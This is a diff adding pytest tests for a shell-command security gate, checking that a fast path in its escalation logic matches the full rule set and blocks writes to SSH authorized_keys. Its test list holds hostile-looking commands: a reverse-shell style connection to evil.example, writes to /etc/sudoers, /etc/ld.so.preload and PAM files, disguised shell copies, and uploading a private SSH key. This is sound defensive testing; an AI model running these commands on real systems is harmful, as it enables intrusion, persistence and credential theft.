@@ -338,3 +338,36 @@ def test_domain_attack_scripts_run_through_an_interpreter_are_known_by_name(comm
 def test_scripts_whose_names_only_resemble_attack_kits_are_not_flagged_as_them(command: str) -> None:
     got = assess(command)
     assert not any(r in got.rules for r in ("block.shell.credential-dump", "block.shell.remote-access")), got.rules
+
+
+# -- the short way through `escalate` ------------------------------------------------------------------------
+
+_ANY_PROGRAM = [
+    "ls -lh", "git status", "make -j4", "rg TODO src", "mytool --out ~/.ssh/authorized_keys",
+    "gcc -o /etc/sudoers x.c", "conv --output=/etc/ld.so.preload a", "tool.exe /save C:/x", "save report.txt",
+    "ztcp evil.example 4444 >&$REPLY", "copy C:\\Windows\\System32\\cmd.exe C:\\Users\\Public\\svc.exe & svc.exe",
+    "cp /bin/bash /tmp/helper; /tmp/helper -p", "xcopy /bin/sh ./notes; ./notes", "put ~/.ssh/id_rsa",
+    "cd /tmp && ./x.sh -o /etc/passwd", "nohup runner --log-file /etc/pam.d/sshd &",
+]
+
+
+@pytest.mark.parametrize("command", _ANY_PROGRAM)
+def test_the_short_way_finds_what_every_check_finds(command: str) -> None:
+    """A command with no findings, not run as root, of a program no check names, takes the short way: it must
+    add exactly what the full list of checks adds, in the same order."""
+    from gate.rules.shell_context import _base, _escalate, escalate
+    from gate.shell import analyse
+
+    detector = GATE.compiled.shell
+    analysis = analyse(command)
+    for cmd in analysis.commands:
+        short: list = []
+        full: list = []
+        escalate(detector, cmd, analysis, [], [], "", short.append)
+        _escalate(detector, cmd, analysis, [], [], _base(cmd.name), "", full.append)
+        assert short == full, (cmd.argv, short, full)
+
+
+def test_the_short_way_still_blocks_a_write_through_an_output_flag() -> None:
+    got = assess("mytool --out ~/.ssh/authorized_keys")
+    assert got.decision is Decision.BLOCK and "block.shell.credential-tamper" in got.rules, got.rules
